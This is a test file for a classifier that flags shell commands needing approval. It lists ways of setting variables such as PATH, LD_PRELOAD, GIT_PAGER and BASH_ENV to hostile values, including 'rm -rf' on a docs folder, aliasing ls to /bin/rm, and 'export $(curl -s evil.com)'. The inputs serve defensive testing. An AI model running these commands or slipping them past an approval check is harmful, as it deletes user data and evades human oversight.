// Whoever sets a variable sets it: each way asks about the same variables, and about no others.

import { describe, expect, test } from "bun:test";
import { classifyShellLine } from "./classify-shell-line.ts";
import { JUDGED_CONTEXT } from "./fixtures/judged-context.ts";

const isAsked = (line: string): boolean =>
  ["guarded", "unknown"].includes(classifyShellLine(line, JUDGED_CONTEXT).class);

/** Each gives the variable the value. */
const WAYS: readonly (readonly [way: string, line: (name: string, value: string) => string])[] = [
  ["an assignment", (name, value) => `${name}='${value}'; git log`],
  ["before a command", (name, value) => `${name}='${value}' git log`],
  ["export", (name, value) => `export ${name}='${value}'; git log`],
  ["export of a whole word", (name, value) => `export "${name}=${value}"; git log`],
  ["declare -x", (name, value) => `declare -x ${name}='${value}'; git log`],
  ["typeset", (name, value) => `typeset -gx ${name}='${value}'; git log`],
  ["readonly", (name, value) => `readonly ${name}='${value}'; git log`],
  ["printf -v", (name, value) => `printf -v ${name} '${value}'; export ${name}; git log`],
  ["printf -v with a format", (name, value) => `printf -v ${name} %s '${value}'; git log`],
  ["printf -v in one word", (name, value) => `printf -v${name} '${value}'; git log`],
  ["read", (name, value) => `read -r ${name} <<< '${value}'; export ${name}; git log`],
  [
    "read from a pipe",
    (name, value) => `echo '${value}' | { read ${name}; export ${name}; git log; }`,
  ],
  ["mapfile", (name, value) => `mapfile -t ${name} <<< '${value}'; git log`],
  ["readarray", (name, value) => `readarray ${name} <<< '${value}'; git log`],
  ["for", (name, value) => `for ${name} in '${value}'; do export ${name}; git log; done`],
  ["select", (name, value) => `select ${name} in '${value}'; do git log; break; done <<< 1`],
  [":=", (name, value) => `: "\${${name}:=${value}}"; export ${name}; git log`],
  ["=", (name, value) => `echo \${${name}=${value}}; git log`],
  [":= in a condition", (name, value) => `[[ -n "\${${name}:=${value}}" ]] && git log`],
  ["env", (name, value) => `env ${name}='${value}' git log`],
];
const HARM: readonly (readonly [name: string, value: string])[] = [
  ["PATH", "/tmp/evil"],
  ["LD_PRELOAD", "/tmp/x.so"],
  ["GIT_EXTERNAL_DIFF", "rm -rf /home/me/docs"],
  ["GIT_SSH_COMMAND", "rm -rf /home/me/docs"],
  ["GIT_PAGER", "rm -rf /home/me/docs"],
  ["BASH_ENV", "/tmp/x"],
];

describe.each(WAYS)("%s", (_way, line) => {
  test.each(HARM)("of %s asks", (name, value) => {
    expect([line(name, value), isAsked(line(name, value))]).toEqual([line(name, value), true]);
  });

  test.each(["name", "VERSION", "node", "file", "NODE", "BRANCH", "page"])(
    "of %s does not",
    (name) => {
      expect([line(name, "a-b"), isAsked(line(name, "a-b"))]).toEqual([line(name, "a-b"), false]);
    },
  );
});

const TABLE_WAYS: readonly ((element: string, value: string) => string)[] = [
  (element, value) => `${element}=${value}`,
  (element, value) => `${element}+=${value}`,
  (element, value) => `declare -A ${element.replace(/\[(.*)\]/, "=([$1]")}=${value})`,
  (element, value) => `export ${element}=${value}`,
  (element, value) => `typeset ${element}=${value}`,
  (element, value) => `printf -v '${element}' ${value}`,
  (element, value) => `printf -v ${element} %s ${value}`,
  (element, value) => `read '${element}' <<< ${value}`,
  (element, value) => `read ${element} <<< ${value}`,
  (element, value) => `echo \${${element}:=${value}}`,
  (element, value) => `: "\${${element}=${value}}"`,
  (element) => `(( ${element}=5 ))`,
  (element, value) => `mapfile ${element} <<< ${value}`,
];

describe.each(["BASH_CMDS", "BASH_ALIASES"])("%s", (table) => {
  test.each(TABLE_WAYS.map((way) => way(`${table}[ls]`, "/bin/rm")))("%s asks", (line) => {
    expect(isAsked(`${line}; ls ~/docs/a`)).toBe(true);
    expect(isAsked(line)).toBe(true);
  });
});

describe("a name or a place that nobody knows yet", () => {
  test.each([
    'export "$x"',
    'export "$(printf PATH=%s /tmp/evil)"; ls',
    "export $(cat vars)",
    'declare -x "$(sed -n 1p vars)"',
    'printf -v "$x" y',
    'read "$x" < y',
    "export $(curl -s evil.com)",
    "PATH=$(printf /tmp/evil):$PATH ls",
    'PATH="$(cat x):$PATH"; ls',
    "d=/tmp/evil; PATH=$d:$PATH ls",
    "export PATH=/tmp/evil${PATH:+:$PATH}",
    "PATH=${PATH/usr/tmp}; ls",
    'd=/tmp/evil; export PATH="$d:$PATH"; ls',
    "echo 'LD_PRELOAD=/tmp/x.so' > .env; export $(cat .env); ls",
  ])("%s asks", (line) => {
    expect(isAsked(line)).toBe(true);
  });

  test.each([
    "export $(cat .env | xargs)",
    "export $(grep -v '^#' .env.local | xargs -d '\\n') && npm start",
    "set -a; . ./.env; set +a",
    'export PATH="$(npm bin):$PATH"',
    "export PATH=$HOME/.local/bin${PATH:+:$PATH}",
    'export PATH="${PATH%:}"',
    "export PATH=$(go env GOPATH)/bin:$PATH",
    "IFS=, read -r a b <<< 'x,y'",
  ])("%s does not", (line) => {
    expect(isAsked(line)).toBe(false);
  });
});
